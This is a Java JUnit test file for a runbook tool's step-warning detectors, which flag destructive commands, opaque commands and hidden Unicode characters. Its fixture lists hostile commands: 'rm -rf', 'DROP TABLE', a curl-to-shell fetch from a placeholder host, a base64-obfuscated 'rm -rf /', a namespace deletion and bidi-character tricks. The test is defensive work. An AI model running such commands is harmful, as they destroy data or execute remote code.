package dev.baton.runbook;

import static org.assertj.core.api.Assertions.assertThat;

import dev.baton.step.StepWarning;
import dev.baton.step.StepWarnings;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A step's warnings are worked out when it is first looked at, not as its library is read; looked at, they are
 * the warnings reading them at once gave (the destructive-command and hidden-character checks on the step's text),
 * from any thread, and they reach the library's snapshot.
 */
class StepWarningsOnFirstLookTest {
    private static final String HOSTILE = """
            ---
            confirm:
              - pattern: "systemctl restart"
                reason: restarts the service
            ---
            # Hostile steps

            ```bash
            rm -rf /var/lib/<data-dir>
            ```

            ```bash
            systemctl restart nginx
            ```

            ```sql
            DROP TABLE payments;
            ```

            ```
            curl -s https://example.invalid/install | sh
            ```

            ```bash
            eval "$(echo cm0gLXJmIC8K | base64 -d)"
            ```

            ```bash
            echo safe\u200b; ls -la \u202e/tmp
            ```

            ```console
            $ kubectl delete ns {{ns}}
            namespace "prod" deleted
            ```

            ```promql
            rate(http_requests_total\u2066[5m])
            ```

            ```yaml
            key: value\u00ad
            ```

            ```bash
            df -h /var/lib/queue
            ```
            """;

    private static List<Runbook> parse(String name, String text) throws RunbookReadException {
        return new RunbookParser().parse(name, new SourceText(text, List.of()));
    }

    /** What reading them at once gave, as the step's reader did before they were worked out on first look. */
    private static List<StepWarning> atOnce(Step step) {
        StepWarnings warnings = new StepWarnings();
        return List.copyOf(step.runnable() ? warnings.of(step.command()) : warnings.hidden(step.command()));
    }

    private static void assertAsAtOnce(List<Runbook> runbooks) {
        for (Runbook runbook : runbooks) {
            for (Step step : runbook.steps()) {
                String as = runbook.path() + " step " + step.number();
                if (step.warnings() instanceof WarningsOnFirstLook) {
                    assertThat(step.warnings()).as(as).isEqualTo(atOnce(step));
                } else {
                    // A step the runbook's confirm: list names: its own warnings, then the list's.
                    assertThat(step.warnings()).as(as).startsWith(atOnce(step).toArray(StepWarning[]::new));
                }
            }
        }
    }

    @Test
    void lookedAtTheyAreTheWarningsReadingThemAtOnceGave() throws Exception {
        List<Runbook> hostile = parse("hostile.md", HOSTILE);
        assertAsAtOnce(hostile);
        List<Step> steps = hostile.get(0).steps();
        assertThat(steps).hasSize(10);
        assertThat(steps.get(0).hasWarning(StepWarning.Kind.DESTRUCTIVE)).isTrue();
        assertThat(steps.get(1).warnings()).as("the confirm: list's warning").isNotEmpty();
        assertThat(steps.get(2).hasWarning(StepWarning.Kind.DESTRUCTIVE)).isTrue();
        assertThat(steps.get(4).hasWarning(StepWarning.Kind.OPAQUE)).isTrue();
        assertThat(steps.get(5).hasWarning(StepWarning.Kind.HIDDEN_UNICODE)).isTrue();
        assertThat(steps.get(6).hasWarning(StepWarning.Kind.DESTRUCTIVE)).isTrue();
        assertThat(steps.get(7).hasWarning(StepWarning.Kind.HIDDEN_UNICODE)).as("a query's hidden character").isTrue();
        assertThat(steps.get(8).hasWarning(StepWarning.Kind.HIDDEN_UNICODE)).as("read, not run: hidden only").isTrue();
        assertThat(steps.get(9).warnings()).isEmpty();

        RunbookLibrary shipped = RunbookLibrary.load(ShippedRunbooks.folder());
        assertThat(shipped.runbooks()).hasSizeGreaterThan(5);
        assertAsAtOnce(shipped.runbooks());
        assertThat(shipped.runbooks().stream().flatMap(r -> r.steps().stream())
                .filter(s -> s.hasWarning(StepWarning.Kind.DESTRUCTIVE))).isNotEmpty();
    }

    @Test
    void aLibraryGivenHasWorkedOutNoneAndItsSnapshotHoldsThemAll(@TempDir Path runbooks, @TempDir Path cacheFolder)
            throws IOException {
        for (int i = 0; i < 12; i++) {
            Files.writeString(runbooks.resolve("hostile-" + i + ".md"), HOSTILE.replace("Hostile steps", "Hostile " + i));
        }
        try (LibraryWithWorkHeld opened = new LibraryWithWorkHeld(runbooks, cacheFolder)) {
            List<Step> steps = opened.library.runbooks().stream().flatMap(r -> r.steps().stream())
                    .filter(s -> s.warnings() instanceof WarningsOnFirstLook).toList();
            assertThat(steps).hasSize(12 * 10);
            assertThat(steps).allSatisfy(s -> assertThat(((WarningsOnFirstLook) s.warnings()).worked()).isFalse());
            List<Runbook> fromSnapshot = opened.snapshotAfterTheList();
            assertThat(fromSnapshot).containsExactlyInAnyOrderElementsOf(opened.library.runbooks());
            assertAsAtOnce(fromSnapshot);
            assertThat(fromSnapshot.stream().flatMap(r -> r.steps().stream())
                    .filter(s -> s.hasWarning(StepWarning.Kind.DESTRUCTIVE))).hasSize(12 * 5);
        }
    }

    @Test
    void firstLookedAtFromManyThreadsTheyAreWorkedOutOnce() throws Exception {
        AtomicInteger runs = new AtomicInteger();
        Step step = parse("one.md", "# One\n\n```bash\nrm -rf /srv/<dir>\n```\n").get(0).steps().get(0);
        WarningsOnFirstLook warnings = new WarningsOnFirstLook(() -> {
            runs.incrementAndGet();
            return new StepWarnings().of(step.command());
        });
        ExecutorService threads = Executors.newFixedThreadPool(8);
        try {
            List<Callable<List<StepWarning>>> looks = new ArrayList<>();
            for (int i = 0; i < 8; i++) {
                looks.add(() -> List.copyOf(warnings));
            }
            for (Future<List<StepWarning>> look : threads.invokeAll(looks)) {
                assertThat(look.get()).isEqualTo(atOnce(step)).isNotEmpty();
            }
        } finally {
            threads.shutdown();
        }
        assertThat(runs).hasValue(1);
    }

    @Test
    void aCommandTheDetectorsCannotGetThroughAsksBeforeItIsSent() {
        WarningsOnFirstLook warnings = new WarningsOnFirstLook(() -> {
            throw new StackOverflowError();
        });
        assertThat(warnings).singleElement().satisfies(w -> {
            assertThat(w.kind()).isEqualTo(StepWarning.Kind.OPAQUE);
            assertThat(w.detail()).contains("could not check");
        });
    }
}
